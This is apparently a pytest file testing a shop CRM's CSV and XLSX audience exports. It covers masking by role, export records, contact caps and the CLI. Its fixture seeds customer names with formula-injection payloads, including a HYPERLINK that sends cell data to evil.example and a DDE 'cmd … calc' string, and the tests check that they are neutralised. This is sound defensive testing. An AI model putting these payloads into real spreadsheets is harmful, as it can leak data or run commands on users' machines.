"""Downloads and export records on a shop with hostile values (SQLite and PostgreSQL):
the written CSV and XLSX files read back, masking by role, formula neutralisation, the
record of every export, re-downloads of the same members, the cap counting exports,
trigger-list exports and the export command."""

from __future__ import annotations

import csv
import datetime as dt
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest
from sqlalchemy import func, select

from crm_core import auth
from crm_core import commands as cli
from crm_core.auth import Actor
from crm_core.customers.segments import preset, resolve_scheme_ref, save_scheme
from crm_core.customers.tags import save_tag
from crm_core.errors import InputError, PermissionDenied
from crm_core.i18n import translate
from crm_core.outreach.audiences import (
    FOR_REVIEW,
    Audience,
    column_header,
    export_audience,
    export_details,
    export_member_ids,
    export_record,
    export_trigger,
    list_exports,
    load_audience_facts,
    recent_contacts,
    redownload_export,
)
from crm_core.outreach.audiences import downloads as downloads_module
from crm_core.outreach.policy import ContactPolicy
from crm_core.outreach.triggers import TriggerSettings
from crm_core.store import bulk_insert, models
from tests.support.actors import ADMIN

AS_OF = dt.date(2024, 6, 30)
HOSTILE_NAMES = {
    "h1": '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "h2": "+cmd|' /C calc'!A0",
    "h3": "-1+1",
    "h4": "@SUM(A1:A9)",
    "h5": "\tleading tab",
    "h6": "王芳",
    "h7": "\rcarriage return",
    "h8": "\x01=cmd hidden behind a control character",
}
PHONES = {"h1": "13812345678", "h6": "+86 139 0000 1111"}
COLUMNS = ["customer_id", "name", "address", "email", "segment", "tags", "monetary", "action"]
PASSWORD = "export-test-password"


@pytest.fixture
def hostile_shop(store):
    ids = list(HOSTILE_NAMES)
    customers = pd.DataFrame(
        {
            "customer_id": ids,
            "name": [HOSTILE_NAMES[c] for c in ids],
            "phone": [PHONES.get(c, f"1361111{n:04d}") for n, c in enumerate(ids)],
            "email": ["=cmd@evil.example", *[f"{c}@example.com" for c in ids[1:]]],
            "signup_at": pd.to_datetime(["2024-01-01"] * len(ids)),
        }
    )
    orders = pd.DataFrame(
        {
            "order_id": [f"o-{c}" for c in ids],
            "customer_id": ids,
            "ordered_at": pd.to_datetime([f"2024-06-{10 + n:02d} 10:00" for n in range(len(ids))]),
            "amount": [100.0 * (n + 1) for n in range(len(ids))],
            "status": ["paid"] * len(ids),
        }
    )
    with store.begin() as conn:
        bulk_insert(conn, models.customers, customers)
        bulk_insert(conn, models.orders, orders)
    save_tag(store, "=evil", {"field": "frequency", "op": ">=", "value": 1}, ADMIN)
    return store


def _facts(store, scheme=None, scheme_id=None):
    return load_audience_facts(store, AS_OF, None, scheme or preset("rfm11"), scheme_id)


def _export(store, role, file_format="csv", channel="sms", language="zh-CN", **kwargs):
    exported, result = export_audience(
        store,
        kwargs.pop("facts", None) or _facts(store),
        kwargs.pop("audience", Audience()),
        channel=channel,
        policy=kwargs.pop("policy", ContactPolicy()),
        actor=Actor(f"user-{role}", role),
        columns=kwargs.pop("columns", COLUMNS),
        file_format=file_format,
        language=language,
        **kwargs,
    )
    return exported, result


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_rows(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _by_id(rows: list[list]) -> dict[str, dict]:
    header = rows[0]
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}


def test_analyst_csv_is_masked_and_neutralised(hostile_shop):
    exported, result = _export(hostile_shop, "analyst")
    rows = _csv_rows(exported.content)
    assert rows[0] == [column_header(c, "zh-CN") for c in COLUMNS]
    assert len(rows) - 1 == exported.row_count == result.kept == len(HOSTILE_NAMES)
    by_id = _by_id(rows)
    name, address, email, tags = (
        column_header(c, "zh-CN") for c in ("name", "address", "email", "tags")
    )
    for customer, hostile in HOSTILE_NAMES.items():
        expected = hostile if customer == "h6" else "'" + hostile.lstrip("\x01")
        assert by_id[customer][name] == expected
    assert by_id["h1"][address] == "138****5678"
    assert by_id["h6"][address] == "'+86 139****1111"  # a leading + is neutralised too
    assert by_id["h1"][email] == "'=***@evil.example"  # masked first, then neutralised
    assert by_id["h2"][email] == "h*@example.com"
    assert all("=evil" in row[tags] for row in by_id.values())
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_admin_xlsx_is_unmasked_and_neutralised(hostile_shop):
    exported, _ = _export(hostile_shop, "admin", file_format="xlsx", language="en")
    rows = _xlsx_rows(exported.content)
    assert rows[0] == [column_header(c, "en") for c in COLUMNS]
    by_id = _by_id(rows)
    assert by_id["h1"]["Channel address"] == "13812345678"
    assert by_id["h6"]["Channel address"] == "'+86 139 0000 1111"
    assert by_id["h1"]["E-mail"] == "'=cmd@evil.example"
    assert by_id["h1"]["Name"] == "'" + HOSTILE_NAMES["h1"]
    assert by_id["h2"]["Name"] == "'+cmd|' /C calc'!A0"
    assert by_id["h3"]["Name"] == "'-1+1"
    assert by_id["h4"]["Name"] == "'@SUM(A1:A9)"
    assert by_id["h5"]["Name"] == "'\tleading tab"
    assert by_id["h7"]["Name"].startswith("'") and by_id["h7"]["Name"].endswith("carriage return")
    assert by_id["h6"]["Name"] == "王芳"
    assert by_id["h8"]["Name"] == "'=cmd hidden behind a control character"
    assert isinstance(by_id["h3"]["Net spend"], float | int)


def test_every_export_is_recorded_with_its_members(hostile_shop):
    saved = save_scheme(hostile_shop, preset("lifecycle"), Actor("analyst", "analyst"))
    scheme, scheme_id = resolve_scheme_ref(hostile_shop, "lifecycle")
    assert scheme_id == saved.id
    facts = _facts(hostile_shop, scheme, scheme_id)
    audience = Audience(scheme="lifecycle", exclude_tags=("high_end",))
    created_at = dt.datetime(2024, 7, 1, 9, 30)
    exported, result = _export(
        hostile_shop, "analyst", audience=audience, facts=facts, created_at=created_at
    )
    record = export_record(hostile_shop, exported.export_id)
    assert record.created_by == "user-analyst"
    assert record.created_at == created_at
    assert record.as_of == AS_OF
    assert record.scheme_id == saved.id
    assert record.channel == "sms"
    assert record.filters["audience"] == audience.to_dict()
    assert record.filters["scheme"] == {"name": "lifecycle", "version": 1}
    assert record.filters["kept"] == result.kept
    assert record.policy == ContactPolicy().to_dict()
    assert record.columns == COLUMNS
    assert record.row_count == exported.row_count
    assert record.is_marketing
    file_ids = {row[0] for row in _csv_rows(exported.content)[1:]}
    assert set(export_member_ids(hostile_shop, exported.export_id)) == file_ids
    high_end = set(facts.customer_ids.to_numpy()[facts.tags.column("high_end")])
    assert high_end and not (file_ids & high_end)
    listed = list_exports(hostile_shop, actor=ADMIN)
    assert listed.loc[0, "id"] == exported.export_id
    assert listed.loc[0, "members"] == len(file_ids)
    assert listed.loc[0, "scheme"] == "lifecycle"


def test_downloading_again_gives_the_same_members_masked_for_the_new_role(hostile_shop):
    exported, _ = _export(hostile_shop, "admin", audience=Audience(exclude_tags=("high_end",)))
    again = redownload_export(hostile_shop, exported.export_id, actor=Actor("li", "analyst"))
    original = _by_id(_csv_rows(exported.content))
    copy = _by_id(_csv_rows(again.content))
    assert copy.keys() == original.keys()
    assert original["h1"][column_header("address", "zh-CN")] == "13812345678"
    assert copy["h1"]["Channel address"] == "138****5678"
    record = export_record(hostile_shop, again.export_id)
    assert record.filters["source"] == "copy"
    assert record.filters["copy_of"] == exported.export_id
    assert not record.is_marketing
    assert set(export_member_ids(hostile_shop, again.export_id)) == set(original)
    # the copy is not a second contact
    contacts = recent_contacts(hostile_shop, AS_OF, 30).set_index("customer_id")
    assert contacts.loc["h6", "exports"] == 1
    xlsx = redownload_export(
        hostile_shop, again.export_id, actor=Actor("boss", "admin"), file_format="xlsx"
    )
    assert set(_by_id(_xlsx_rows(xlsx.content))) == set(original)


def test_the_cap_counts_another_list_exported_a_moment_ago(hostile_shop):
    policy = ContactPolicy(cap_contacts=1)
    _, first_result = _export(hostile_shop, "analyst", policy=policy)
    assert first_result.kept == len(HOSTILE_NAMES)
    another = Audience(recency_days=(0, None))  # the same customers, another list
    second, second_result = _export(hostile_shop, "analyst", policy=policy, audience=another)
    assert second_result.kept == 0
    assert second_result.excluded_counts["over_cap"] == len(HOSTILE_NAMES)
    assert second.row_count == 0
    assert _csv_rows(second.content)[0] == [column_header(c, "zh-CN") for c in COLUMNS]


def test_the_same_list_downloaded_again_keeps_its_rows(hostile_shop):
    policy = ContactPolicy(cap_contacts=1)
    csv_file, first = _export(hostile_shop, "analyst", policy=policy)
    xlsx_file, again = _export(hostile_shop, "analyst", policy=policy, file_format="xlsx")
    assert first.kept == again.kept == len(HOSTILE_NAMES)
    assert xlsx_file.row_count == csv_file.row_count == len(HOSTILE_NAMES)
    assert again.excluded_counts["over_cap"] == 0


def test_a_list_downloaded_for_review_counts_as_no_contact(hostile_shop):
    policy = ContactPolicy(cap_contacts=1)
    _export(hostile_shop, "analyst", policy=policy, purpose=FOR_REVIEW)
    another = Audience(recency_days=(0, None))
    _, result = _export(hostile_shop, "analyst", policy=policy, audience=another)
    assert result.kept == len(HOSTILE_NAMES)
    with pytest.raises(InputError):
        _export(hostile_shop, "analyst", purpose="maybe")


def test_a_failed_record_leaves_nothing_behind(hostile_shop, monkeypatch):
    def broken(*_args, **_kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(downloads_module, "bulk_insert", broken)
    with pytest.raises(RuntimeError):
        _export(hostile_shop, "analyst")
    with hostile_shop.connect() as conn:
        assert conn.execute(select(func.count()).select_from(models.exports)).scalar() == 0


def test_viewers_cannot_download(hostile_shop):
    with pytest.raises(PermissionDenied):
        _export(hostile_shop, "viewer")
    exported, _ = _export(hostile_shop, "analyst")
    with pytest.raises(PermissionDenied):
        redownload_export(hostile_shop, exported.export_id, actor=Actor("v", "viewer"))
    assert len(list_exports(hostile_shop, actor=ADMIN)) == 1


def test_trigger_list_exports(hostile_shop, actor=ADMIN):
    with hostile_shop.begin() as conn:
        bulk_insert(
            conn,
            models.orders,
            pd.DataFrame(
                {
                    "order_id": ["u-big"],
                    "customer_id": ["h6"],
                    "ordered_at": pd.to_datetime(["2024-06-29 20:00"]),
                    "amount": [1800.0],
                    "status": ["unpaid"],
                }
            ),
        )
    facts = _facts(hostile_shop)
    payment, no_policy = export_trigger(
        hostile_shop, facts, "payment", TriggerSettings(), channel="sms",
        policy=ContactPolicy(), actor=Actor("li", "analyst"), language="en",
    )  # fmt: skip
    assert no_policy is None
    rows = _csv_rows(payment.content)
    assert rows[0][-6:] == [
        "Order ID", "Ordered at", "Amount", "Customer type", "Remind from", "Phone call",
    ]  # fmt: skip
    assert rows[1][0] == "h6" and rows[1][-1] == "yes" and rows[1][-3] == "returning"
    assert not export_record(hostile_shop, payment.export_id).is_marketing
    birthday, policy_result = export_trigger(
        hostile_shop, facts, "birthday", TriggerSettings(), channel="sms",
        policy=ContactPolicy(), actor=Actor("li", "analyst"),
    )  # fmt: skip
    assert policy_result is not None and birthday.row_count == 0
    again = redownload_export(
        hostile_shop, payment.export_id, actor=Actor("li", "admin"), language="en"
    )
    assert _csv_rows(again.content)[1][-1] == "yes"


@pytest.fixture
def cli_store(hostile_shop, monkeypatch):
    auth.create_user(hostile_shop, "boss", PASSWORD, "admin", actor=auth.COMMAND_LINE)
    auth.create_user(hostile_shop, "guest", PASSWORD, "viewer", actor=auth.COMMAND_LINE)
    monkeypatch.setenv("DATABASE_URL", hostile_shop.url.render_as_string(hide_password=False))
    return hostile_shop


def test_export_details_read_a_trigger_export_in_words(hostile_shop):
    facts = _facts(hostile_shop)
    birthday, result = export_trigger(
        hostile_shop, facts, "birthday", TriggerSettings(), channel="sms",
        policy=ContactPolicy(), actor=Actor("li", "analyst"),
    )  # fmt: skip
    for language in ("en", "zh-CN"):
        details = export_details(export_record(hostile_shop, birthday.export_id), language)
        shown = dict(zip(details["item"], details["value"], strict=True))

        def item(key: str, language: str = language) -> str:
            return translate(f"exports.detail.{key}", language)

        assert shown[item("source")] == translate("exports.source.trigger", language)
        assert shown[item("trigger")] == translate("triggers.birthday.name", language)
        assert shown[item("kept")] == f"{result.kept:,}"
        assert shown[item("policy.quiet_period_days")] == str(ContactPolicy().quiet_period_days)
        winback = translate("triggers.settings.winback_days", language)
        assert shown[winback] == translate("app.list_separator", language).join(
            str(days) for days in TriggerSettings().winback_days
        )
        assert not any("{" in str(value) or "None" in str(value) for value in shown.values())


def test_export_command_writes_records_and_prints_the_counts(cli_store, tmp_path, capsys):
    out = tmp_path / "list.csv"
    code = cli.main(
        ["export", "--segment", *preset("rfm11").segment_names, "--exclude-tag", "high_end",
         "--channel", "sms", "--as-of", AS_OF.isoformat(), "--out", str(out)]
    )  # fmt: skip
    assert code == 0
    printed = capsys.readouterr().out
    rows = _csv_rows(out.read_bytes())
    record = list_exports(cli_store, actor=ADMIN).iloc[0]
    assert record["created_by"] == "cli"
    assert record["members"] == len(rows) - 1
    assert f"wrote {len(rows) - 1:,} customers" in printed
    assert "excluded, over_cap: 0" in printed
    assert rows[1][2].count("*") == 4  # masked without a user who may see phones

    admin_out = tmp_path / "list.xlsx"
    assert cli.main(["export", "--as-of", AS_OF.isoformat(), "--out", str(admin_out),
                     "--user", "boss", "--columns", "customer_id,address"]) == 0  # fmt: skip
    by_id = _by_id(_xlsx_rows(admin_out.read_bytes()))
    assert by_id["h1"]["Channel address"] == "13812345678"
    assert list_exports(cli_store, actor=ADMIN).iloc[0]["created_by"] == "boss"


@pytest.mark.parametrize(
    "arguments",
    [
        ["--segment", "no_such_segment", "--out", "{dir}/x.csv"],
        ["--out", "{dir}/x.txt"],
        ["--out", "{dir}/missing/x.csv"],
        ["--out", "{dir}/x.csv", "--user", "nobody"],
        ["--out", "{dir}/x.csv", "--user", "guest"],
        ["--out", "{dir}/x.csv", "--columns", "customer_id,password"],
        ["--out", "{dir}/x.csv", "--recency-days", "90:30"],
    ],
)
def test_export_command_errors_exit_2_and_record_nothing(cli_store, tmp_path, capsys, arguments):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    filled = [a.replace("{dir}", str(out_dir)) for a in arguments]
    assert cli.main(["export", "--as-of", AS_OF.isoformat(), *filled]) == 2
    assert capsys.readouterr().err.startswith("error: ")
    assert list_exports(cli_store, actor=ADMIN).empty
    assert not any(out_dir.iterdir())


def test_member_ids_keep_the_facts_order(hostile_shop):
    exported, result = _export(hostile_shop, "analyst")
    ids = [row[0] for row in _csv_rows(exported.content)[1:]]
    assert ids == sorted(ids)
    assert np.array_equal(np.sort(result.kept_positions), result.kept_positions)
